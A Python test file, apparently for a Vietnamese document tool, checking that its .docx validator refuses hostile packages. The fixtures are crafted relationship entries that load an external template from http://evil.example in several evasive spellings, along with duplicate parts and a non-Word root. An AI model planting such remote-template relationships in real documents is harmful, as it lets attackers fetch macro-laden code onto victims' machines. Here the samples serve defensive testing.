"""Hostile .docx packages are refused in every spelling (issue 10 items 7 and 9)."""

from __future__ import annotations

import io
import json
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import TEMPLATES, CliResult
from vanban.docx.package_checks import check_docx_bytes
from vanban.errors import TemplateError

Run = Callable[..., CliResult]
RELS = "word/_rels/document.xml.rels"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE_TYPE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
HYPERLINK_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _package(change: Callable[[str, bytes], bytes] | None = None, extra: bool = False) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(TEMPLATES / "ke_hoach.docx") as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package,
        warnings.catch_warnings(),
    ):
        warnings.simplefilter("ignore")  # a duplicate name is the attack
        for name in source.namelist():
            content = source.read(name)
            package.writestr(name, change(name, content) if change else content)
        if extra:
            package.writestr("word/document.xml", b"<w:document xmlns:w='x'/>")
    return out.getvalue()


def _with_relationship(relationship: str) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name != RELS:
            return content
        text = content.decode("utf-8")
        return text.replace("</Relationships>", relationship + "</Relationships>").encode()

    return _package(change)


SPELLINGS = {
    "double-quotes": f'<Relationship Id="rX" Type="{TEMPLATE_TYPE}" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/>',
    "single-quotes": f"<Relationship Id='rX' Type='{TEMPLATE_TYPE}' "
    "Target='http://evil.example/t.dotm' TargetMode='External'/>",
    "namespaced": f'<r:Relationship xmlns:r="{REL_NS}" Id="rX" Type="{TEMPLATE_TYPE}" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/>',
    "spaces-and-case": f'<Relationship Id="rX" Type="{TEMPLATE_TYPE}" '
    'Target="http://evil.example/t.dotm" TargetMode = " external "/>',
    "hyperlink-in-the-target": f'<Relationship Id="rX" Type="{TEMPLATE_TYPE}" '
    'Target="http://evil.example/relationships/hyperlink" TargetMode="External"/>',
    "hyperlink-inside-the-type": '<Relationship Id="rX" '
    'Type="http://evil.example/relationships/hyperlink/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/>',
    "entity-spelled": f'<Relationship Id="rX" Type="{TEMPLATE_TYPE}" '
    'Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/>',
}


@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
def test_an_external_target_is_refused_in_every_spelling(spelling: str) -> None:
    with pytest.raises(TemplateError, match="bên ngoài"):
        check_docx_bytes(_with_relationship(SPELLINGS[spelling]), "x.docx")


def test_a_real_hyperlink_may_point_outside() -> None:
    check_docx_bytes(
        _with_relationship(
            f'<Relationship Id="rX" Type="{HYPERLINK_TYPE}" Target="https://thuvienphapluat.vn" '
            'TargetMode="External"/>'
        ),
        "x.docx",
    )


def test_duplicate_parts_and_a_foreign_root_are_refused() -> None:
    with pytest.raises(TemplateError, match="trùng tên"):
        check_docx_bytes(_package(extra=True), "x.docx")

    def foreign(name: str, content: bytes) -> bytes:
        return b"<html><body>hi</body></html>" if name == "word/document.xml" else content

    with pytest.raises(TemplateError, match="không phải là văn bản Word"):
        check_docx_bytes(_package(foreign), "x.docx")


def test_check_goes_on_after_a_bad_file_and_json_stays_valid(run_cli: Run, tmp_path: Path) -> None:
    bad = tmp_path / "trung.docx"
    bad.write_bytes(_package(extra=True))
    good = tmp_path / "tot.docx"
    good.write_bytes(_package())
    result = run_cli("--json", "check", bad, good)
    assert result.exit_code == 1
    assert "Traceback" not in result.stderr
    payload = json.loads(result.stdout)
    assert len(json.dumps(payload)) > 0
    assert str(good) in result.stdout


@settings(max_examples=40, deadline=None)
@given(
    prefix=st.sampled_from(["", "r:", "pkg:"]),
    quote=st.sampled_from(['"', "'"]),
    mode=st.sampled_from(["External", "external", " External", "EXTERNAL ", "&#69;xternal"]),
    kind=st.sampled_from(["attachedTemplate", "image", "oleObject", "frame", "subDocument"]),
)
def test_any_external_fetch_is_refused(prefix: str, quote: str, mode: str, kind: str) -> None:
    declaration = f" xmlns:{prefix[:-1]}={quote}{REL_NS}{quote}" if prefix else ""
    relationship = (
        f"<{prefix}Relationship{declaration} Id={quote}rX{quote} "
        f"Type={quote}http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
        f"{quote} Target={quote}http://evil.example/x{quote} TargetMode={quote}{mode}{quote}/>"
    )
    with pytest.raises(TemplateError):
        check_docx_bytes(_with_relationship(relationship), "x.docx")
